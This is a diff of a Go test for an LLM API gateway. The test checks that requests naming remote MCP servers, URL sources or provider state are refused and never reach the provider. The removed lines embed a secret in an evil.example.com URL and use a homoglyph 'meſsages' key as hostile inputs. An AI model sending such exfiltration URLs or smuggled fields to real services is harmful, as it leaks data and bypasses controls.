@@ -11,6 +11,7 @@ import (
 	"testing"
 
 	"github.com/tidewaiter/tidewaiter/internal/host/callers"
+	"github.com/tidewaiter/tidewaiter/internal/testkit/detour"
 	"github.com/tidewaiter/tidewaiter/internal/testkit/provider"
 )
 
@@ -26,60 +27,57 @@ func TestWall(t *testing.T) {
 	p := provider.New(providerKey)
 	w := newWorld(t, p, quick())
 	const secret = "THE-REPOSITORY"
-	at := func(path, body, reason, member string) {
-		t.Helper()
-		before := len(p.Recorded())
-		body = fmt.Sprintf(`{"model":"large","max_tokens":9,%s}`, strings.ReplaceAll(body, "URL", `"https://evil.example.com/?q=`+secret+`"`))
-		answer, text := w.ask("login", http.MethodPost, path, body)
-		status := http.StatusForbidden
-		if reason == "InvalidRequest" || strings.Contains(body, "thread") {
-			status = http.StatusBadRequest
+	sent := 0
+	for _, r := range detour.All(secret) {
+		var header []string
+		if r.Header != "" {
+			header = []string{r.Header, r.Value}
 		}
-		if answer.StatusCode != status || answer.Header.Get(callers.ReasonHeader) != reason || !strings.Contains(text, "tidewaiter: "+member+": ") {
-			t.Errorf("%s: %d %s %s\nwant %d %s %s", body, answer.StatusCode, answer.Header.Get(callers.ReasonHeader), text, status, reason, member)
+		answer, text := w.ask("login", http.MethodPost, r.Path, r.Body, header...)
+		got := p.Recorded()
+		if r.Reason != "" {
+			if answer.StatusCode != r.Status() || answer.Header.Get(callers.ReasonHeader) != r.Reason || !strings.Contains(text, "tidewaiter: "+r.Member+": ") {
+				t.Errorf("%s: %d %s %s\nwant %d %s %s", r.Body, answer.StatusCode, answer.Header.Get(callers.ReasonHeader), text, r.Status(), r.Reason, r.Member)
+			}
+			if len(got) != sent {
+				t.Errorf("%s reached the provider", r.Body)
+			}
+		} else {
+			if answer.StatusCode != http.StatusOK || len(got) != sent+1 {
+				t.Fatalf("%s: %d %s", r.Body, answer.StatusCode, text)
+			}
+			last := got[len(got)-1]
+			if r.Gone != "" && strings.Contains(last.Body, r.Gone) || r.Header != "" && strings.Contains(fmt.Sprint(last.Header), r.Value) {
+				t.Errorf("the provider got %s with %v", last.Body, last.Header)
+			}
 		}
-		if got := p.Recorded(); len(got) != before {
-			t.Errorf("%s reached the provider: %s", body, got[len(got)-1].Body)
+		sent = len(got)
+	}
+	taken := map[string]int{}
+	for _, r := range detour.All(secret) {
+		if r.TakenOut != "" {
+			taken["taken out: "+r.TakenOut]++
 		}
 	}
-	const tool, state, invalid = "ServerToolNotAllowed", "ProviderStateNotAllowed", "InvalidRequest"
-	at(messages, `"mcp_servers":[{"type":"url","name":"n","url":URL}],"messages":[{"role":"user","content":"x"}]`, tool, "mcp_servers")
-	at(messages, `"tools":[{"type":"teleport_20270101","name":"t"}],"messages":[]`, tool, "tools[0]")
-	at(messages, `"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":URL}}]}]`, tool, "messages[0].content[0].source.url")
-	at(messages, `"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":URL}}]}]}]`, tool, "messages[0].content[0].content[0].source.url")
-	at(messages, `"container":"c","messages":[]`, state, "container")
-	at(messages, `"thread":{"type":"continue","previous_message_id":"m"},"messages":[]`, state, "thread")
-	at(messages, `"messages":[{"role":"user","content":[{"type":"image","source":{"type":"file","file_id":"f"}}]}]`, state, "messages[0].content[0].source.file_id")
-	at(messages, `"Messages":[{"role":"user","content":"x"}],"messages":[]`, invalid, `\"Messages\"`)
-	at(messages+"/count_tokens", `"mcp_servers":[{"type":"url","name":"n","url":URL}],"messages":[]`, tool, "mcp_servers")
-	at(responses, `"tools":[{"type":"mcp","server_label":"l","server_url":URL}],"input":"x"`, tool, "tools[0]")
-	at(responses, `"input":[{"type":"message","role":"user","content":[{"type":"input_file","file_url":URL}]}]`, tool, "input[0].content[0].file_url")
-	at(responses, `"background":true,"input":"x"`, state, "background")
-	at(responses, `"previous_response_id":"resp_1","input":"x"`, state, "previous_response_id")
-	at(responses, `"conversation":"conv_1","input":"x"`, state, "conversation")
-	at(responses, `"prompt":{"id":"pmpt_1"},"input":"x"`, state, "prompt")
-	at(responses, `"input":[{"id":"msg_1"}]`, state, "input[0]")
-	at(responses+"/compact", `"previous_response_id":"resp_1","input":"x"`, state, "previous_response_id")
-	at(responses+"/input_tokens", `"conversation":"conv_1","input":"x"`, state, "conversation")
-	at(chat, `"plugins":[{"id":"web"}],"messages":[]`, tool, "plugins")
-	at(chat, `"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":URL}}]}]`, tool, "messages[0].content[0].image_url.url")
-	at(chat, `"functions":[{"name":"f"}],"messages":[]`, invalid, "functions")
-	at(chat, `"messages":[{"role":"user","content":"x"}],"me\u017fsages":[]`, invalid, "\\\"meſsages\\\"")
 	for _, got := range p.Recorded() {
 		if strings.Contains(got.Body, secret) {
 			t.Errorf("the provider got %s", got.Body)
 		}
 	}
-	if n := w.settled(); n != 0 {
-		t.Errorf("%d refused calls are in the ledger, which costs nothing to fill", n)
-	}
-}
-
-// settled is how many calls the ledger has.
-func (w *world) settled() int {
+	w.last(sent)
 	w.mu.Lock()
 	defer w.mu.Unlock()
-	return len(w.turns)
+	if len(w.turns) != sent {
+		t.Errorf("the ledger has %d calls, and %d were made", len(w.turns), sent)
+	}
+	for _, turn := range w.turns {
+		taken[turn.Detail]--
+	}
+	for detail, n := range taken {
+		if detail != "" && n != 0 {
+			t.Errorf("%s: the ledger has it %d times too few", detail, n)
+		}
+	}
 }
 
 // TestWallTakesOut: what clients offer by themselves is taken out, the rest of the request stays, and the ledger says what it was.
